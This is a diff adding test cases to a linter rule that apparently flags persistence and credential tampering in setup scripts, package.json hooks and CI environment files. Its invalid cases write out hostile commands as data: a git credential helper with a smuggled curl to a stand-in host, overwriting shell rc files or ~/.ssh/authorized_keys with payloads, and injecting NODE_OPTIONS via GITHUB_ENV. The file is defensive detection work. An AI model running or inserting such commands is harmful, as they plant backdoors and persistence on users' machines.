@@ -17,6 +17,11 @@ const strictCases = [
 
 await ruleTester(rule, {
   valid: [
+    { code: "git config --global credential.helper 'cache --timeout=7200'", filename: 'setup.sh' },
+    { code: "git config --global credential.helper 'store --file ~/.logins'", filename: 'setup.sh' },
+    { code: 'git config --global credential.helper gcloud.sh', filename: 'setup.sh' },
+    { code: 'ln -sf ~/dotfiles/_zshrc ~/.zshrc\ncp ./.bashrc ~/.bashrc\nln -s "$PWD/git/gitconfig" ~/.gitconfig', filename: 'setup.sh' },
+    { code: 'docker exec app sh -c "crontab /app/cron; echo x >> ~/.bashrc"', filename: 'run.sh' },
     // Lines are taken out, as by an uninstaller.
     sh("sed -i '/# tool start/,/# tool end/d' ~/.bashrc"),
     sh("sed -i.bak -e '/TOOL_HOME/d' -e '\\|/opt/tool/bin|d' $HOME/.zshrc"),
@@ -73,6 +78,12 @@ await ruleTester(rule, {
     { code: `const AutoLaunch = require('auto-launch'); const l = new AutoLaunch({ name: 'x' }); if (config.autostart) l.enable(); else l.disable();` },
   ],
   invalid: [
+    { code: "git config --global credential.helper 'store --file=/tmp/logins'", filename: 'setup.sh', errors: [{ messageId: 'command' }] },
+    { code: "git config --global credential.helper 'cache; curl https://p.example'", filename: 'setup.sh', errors: [{ messageId: 'command' }] },
+    ...['cp payload.sh ~/.zshrc', 'ln -s /tmp/.zshrc ~/.zshrc', 'cp ./authorized_keys ~/.ssh/authorized_keys', 'curl -so zshrc https://acme.example/z\ncp zshrc ~/.zshrc'].map((code) => ({ code, filename: 'setup.sh', errors: [{ messageId: 'file' as const }] })),
+    { code: '{ "scripts": { "postinstall": "cp .zshrc ~/.zshrc" } }', filename: 'package.json', errors: [{ messageId: 'file' }] },
+    { code: 'docker run -v $HOME:/root alpine sh -c "echo x > /root/.bashrc"', filename: 'run.sh', errors: [{ messageId: 'file' }] },
+    { code: 'docker exec app true > ~/.bashrc', filename: 'run.sh', errors: [{ messageId: 'file' }] },
     bad(script('systemctl enable app.service', 'postinstall'), 'command'),
     bad(script('systemctl enable --now app', 'prepare'), 'command'),
     { code: 'import fs from "fs"; fs.appendFileSync(process.env.GITHUB_ENV, "NODE_OPTIONS=--require /tmp/h.js\\n");', errors: [{ messageId: 'variable' }] },
